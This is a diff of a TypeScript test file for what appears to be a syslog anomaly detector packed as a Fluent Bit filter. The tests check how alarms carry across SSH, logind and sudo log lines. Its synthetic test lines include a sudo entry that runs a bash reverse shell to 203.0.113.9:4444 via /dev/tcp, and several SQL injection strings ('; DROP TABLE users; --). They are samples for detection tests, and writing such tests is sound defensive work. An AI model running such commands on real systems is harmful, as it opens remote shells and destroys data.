@@ -220,45 +220,85 @@ describe("training and scoring", () => {
 
   it("a very unusual line opens an alarm on its syslog process: its next 8 lines are anomalous; a daemon's lines and a mistyped password open none", () => {
     // A bastion: a new sshd process every session; systemd-logind one process throughout.
-    const at = (process: string, text: string) => `Mar 12 10:00:00 bastion ${process}: ${text}`;
+    const at = (second: number, process: string, text: string) => `Mar 12 10:${String(Math.floor(second / 60) % 60).padStart(2, "0")}:${String(second % 60).padStart(2, "0")} bastion ${process}: ${text}`;
     const users = ["alice", "bob", "carol"];
     const trainer = packedTarkin();
     for (let i = 0; i < 300; i++) {
       const sshd = `sshd[${3000 + i * 7}]`;
       const user = users[i % 3];
-      trainer.train(at(sshd, `Accepted publickey for ${user} from 10.8.1.${i % 50} port ${40000 + i} ssh2`));
-      trainer.train(at(sshd, `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`));
-      trainer.train(at("systemd-logind[707]", `New session ${i} of user ${user}.`));
-      trainer.train(at(sshd, `pam_unix(sshd:session): session closed for user ${user}`));
-      trainer.train(at("systemd-logind[707]", `Removed session ${i}.`));
+      trainer.train(at(i, sshd, `Accepted publickey for ${user} from 10.8.1.${i % 50} port ${40000 + i} ssh2`));
+      trainer.train(at(i, sshd, `pam_unix(sshd:session): session opened for user ${user} by (uid=0)`));
+      trainer.train(at(i, "systemd-logind[707]", `New session ${i} of user ${user}.`));
+      trainer.train(at(i + 1, sshd, `pam_unix(sshd:session): session closed for user ${user}`));
+      trainer.train(at(i + 1, "systemd-logind[707]", `Removed session ${i}.`));
     }
     const filter = new FluentBitFilter(packModule(coreWasm(), packContents(trainer.model(), DEFAULT_SETTINGS))); // as `tarkin pack` packs it
-    const scored = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
-    const opened = (process: string) => at(process, "pam_unix(sshd:session): session opened for user alice by (uid=0)");
-    expect(scored(opened("sshd[9001]")).tarkin_anomaly).toBe(false);
+    let second = 0; // each line its own second, unless told
+    const scored = (process: string, text: string, same = false) => JSON.parse(filter.filter(JSON.stringify({ log: at(same ? second : ++second, process, text) }))!);
+    const opened = "pam_unix(sshd:session): session opened for user alice by (uid=0)";
+    expect(scored("sshd[9001]", opened).tarkin_anomaly).toBe(false);
     // alice by password from a network never seen: very unusual, so the session's lines are the alarm's.
-    const alarm = scored(at("sshd[9999]", "Accepted password for alice from 185.220.101.245 port 37162 ssh2"));
+    const alarm = scored("sshd[9999]", "Accepted password for alice from 185.220.101.245 port 37162 ssh2");
     expect(alarm.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
     expect(alarm.tarkin_anomaly).toBe(true);
-    const first = scored(opened("sshd[9999]"));
+    const first = scored("sshd[9999]", opened);
     expect(first).toMatchObject({ tarkin_anomaly: true, tarkin_fear: alarm.tarkin_fear, tarkin_reason: "sshd[9999]: after an alarm in this process" });
     expect(first.tarkin_surprise).toBeLessThan(0.2);
-    expect(scored(opened("sshd[9998]")).tarkin_anomaly).toBe(false); // another session
+    expect(scored("sshd[9998]", opened).tarkin_anomaly).toBe(false); // another session
     const carried = [first.tarkin_anomaly];
-    for (let i = 0; i < 8; i++) carried.push(scored(opened("sshd[9999]")).tarkin_anomaly);
+    for (let i = 0; i < 8; i++) carried.push(scored("sshd[9999]", opened).tarkin_anomaly);
     expect(carried).toEqual([true, true, true, true, true, true, true, true, false]);
     // A daemon's very unusual line: its next lines, other sessions', are no alarm's.
-    const daemon = scored(at("systemd-logind[707]", `New session 301 of user alice'; DROP TABLE users; --.`));
+    const daemon = scored("systemd-logind[707]", `New session 301 of user alice'; DROP TABLE users; --.`);
     expect(daemon.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
-    expect(scored(at("systemd-logind[707]", "Removed session 17.")).tarkin_anomaly).toBe(false);
+    expect(scored("systemd-logind[707]", "Removed session 17.", true).tarkin_anomaly).toBe(false);
     // A program training never saw may be a daemon: none of its lines is carried.
-    expect(scored(at("xinetd[1798]", "removing chargen'; DROP TABLE users; --")).tarkin_surprise).toBeGreaterThanOrEqual(0.5);
-    expect(scored(at("xinetd[1798]", "removing chargen")).tarkin_reason).not.toMatch(/after an alarm/);
+    expect(scored("xinetd[1798]", "removing chargen'; DROP TABLE users; --").tarkin_surprise).toBeGreaterThanOrEqual(0.5);
+    expect(scored("xinetd[1798]", "removing chargen", true).tarkin_reason).not.toMatch(/alarm/);
     // A mistyped name alarms by its words, and opens no alarm on its session.
-    const typo = scored(at("sshd[7777]", "Invalid user alcie from 10.8.1.3 port 40001"));
+    const typo = scored("sshd[7777]", "Invalid user alcie from 10.8.1.3 port 40001");
     expect(typo).toMatchObject({ tarkin_anomaly: true, tarkin_reason: "security: Invalid" });
     expect(typo.tarkin_surprise).toBeLessThan(0.5);
-    expect(scored(at("sshd[7777]", "Accepted publickey for alice from 10.8.1.3 port 40001 ssh2")).tarkin_anomaly).toBe(false);
+    expect(scored("sshd[7777]", "Accepted publickey for alice from 10.8.1.3 port 40001 ssh2", true).tarkin_anomaly).toBe(false);
+  });
+
+  it("an alarm of a session's process carries to the next 4 lines of its second and host; a daemon's, or a program's of no process id, does not", () => {
+    const at = (time: string, host: string, process: string, text: string) => `Mar 12 ${time} ${host} ${process}: ${text}`;
+    const users = ["alice", "bob", "carol"];
+    const trainer = packedTarkin();
+    for (let i = 0; i < 300; i++) {
+      const time = `10:${String(Math.floor(i / 60)).padStart(2, "0")}:${String(i % 60).padStart(2, "0")}.${String((i * 137) % 1000).padStart(3, "0")}`; // rsyslog's fractions
+      const user = users[i % 3];
+      trainer.train(at(time, "bastion", `sshd[${3000 + i * 7}]`, `Accepted publickey for ${user} from 10.8.1.${i % 50} port ${40000 + i} ssh2`));
+      trainer.train(at(time, "bastion", "systemd-logind[707]", `New session ${i} of user ${user}.`));
+      trainer.train(at(time, "bastion", "sudo", `   ${user} : TTY=pts/${i % 4} ; PWD=/home/${user} ; USER=root ; COMMAND=/usr/bin/apt-get update`));
+      trainer.train(at(time, "bastion", "sudo", `pam_unix(sudo:session): session opened for user root by ${user}(uid=0)`));
+    }
+    const filter = new FluentBitFilter(packModule(coreWasm(), packContents(trainer.model(), DEFAULT_SETTINGS)));
+    const scored = (line: string) => JSON.parse(filter.filter(JSON.stringify({ log: line }))!);
+    const logind = (time: string, host = "bastion") => at(time, host, "systemd-logind[707]", "New session 301 of user alice.");
+    expect(scored(logind("11:00:00.500")).tarkin_anomaly).toBe(false);
+    // A root login: its logind line, in the same second, is the alarm's; one a second later, of another host, or after another line, is not.
+    const alarm = scored(at("11:00:01.500", "bastion", "sshd[9999]", "Accepted password for alice from 185.220.101.245 port 37162 ssh2"));
+    expect(alarm.tarkin_anomaly).toBe(true);
+    expect(scored(logind("11:00:01.500"))).toMatchObject({ tarkin_anomaly: true, tarkin_fear: alarm.tarkin_fear, tarkin_reason: "systemd-logind[707]: in the second of an alarm on this host" });
+    expect(scored(logind("11:00:01.500", "web1")).tarkin_anomaly).toBe(false); // another host: and the second is closed
+    expect(scored(logind("11:00:01.500")).tarkin_anomaly).toBe(false);
+    scored(at("11:00:02.500", "bastion", "sshd[9998]", "Accepted password for alice from 185.220.101.246 port 37163 ssh2"));
+    expect(scored(logind("11:00:03.500")).tarkin_anomaly).toBe(false);
+    // Its next 4 lines of the second at most, whatever their fraction of it.
+    scored(at("11:00:04.500", "bastion", "sshd[9997]", "Accepted password for alice from 185.220.101.247 port 37164 ssh2"));
+    expect(["11:00:04.120", "11:00:04.250", "11:00:04.380", "11:00:04.510", "11:00:04.640"].map((t) => scored(logind(t)).tarkin_anomaly)).toEqual([true, true, true, true, false]);
+    // sudo logs no process id, as the kernel does (a boot writes a burst of lines a second): its alarm opens no second.
+    const shell = scored(at("11:00:05.500", "bastion", "sudo", "   alice : TTY=pts/1 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"));
+    expect(shell.tarkin_surprise).toBeGreaterThanOrEqual(0.5);
+    expect(scored(at("11:00:05.500", "bastion", "sudo", "pam_unix(sudo:session): session opened for user root by alice(uid=0)")).tarkin_anomaly).toBe(false);
+    // A line of no header at all is no second's.
+    scored(at("11:00:05.700", "bastion", "sshd[9996]", "Accepted password for alice from 185.220.101.248 port 37165 ssh2"));
+    expect(scored("session opened for user alice").tarkin_reason).not.toMatch(/alarm/);
+    // A daemon's alarm opens no second.
+    expect(scored(at("11:00:06.500", "bastion", "systemd-logind[707]", "New session 302 of user alice'; DROP TABLE users; --.")).tarkin_surprise).toBeGreaterThanOrEqual(0.5);
+    expect(scored(at("11:00:06.500", "bastion", "sudo", "pam_unix(sudo:session): session opened for user root by alice(uid=0)")).tarkin_anomaly).toBe(false);
   });
 
   it("a path (a request's, path=): a name never held under a directory of few names is news; a name that varies is not", () => {
